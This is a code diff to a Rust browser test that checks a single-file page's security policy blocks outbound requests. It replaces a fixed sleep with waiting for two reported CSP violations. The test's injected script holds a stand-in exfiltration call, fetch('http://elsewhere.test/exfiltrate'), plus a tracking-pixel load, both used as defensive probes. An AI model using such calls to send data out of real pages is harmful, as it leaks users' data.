@@ -119,12 +119,20 @@ async fn single_file_policy_refuses_requests() {
             open_single_file(&page).await?;
             page.client()
                 .execute(
-                    "fetch('http://elsewhere.test/exfiltrate').catch(() => {}); \
+                    "window.__violations = 0; \
+                     document.addEventListener('securitypolicyviolation', () => { window.__violations += 1; }); \
+                     fetch('http://elsewhere.test/exfiltrate').catch(() => {}); \
                      new Image().src = 'http://elsewhere.test/pixel.png';",
                     vec![],
                 )
                 .await?;
-            tokio::time::sleep(Duration::from_millis(300)).await;
+            // The browser has reported both violations (and logged them with them).
+            page.wait_until(
+                "two CSP violations reported",
+                "return window.__violations >= 2;",
+                vec![],
+            )
+            .await?;
             Ok(())
         },
         |evidence| {
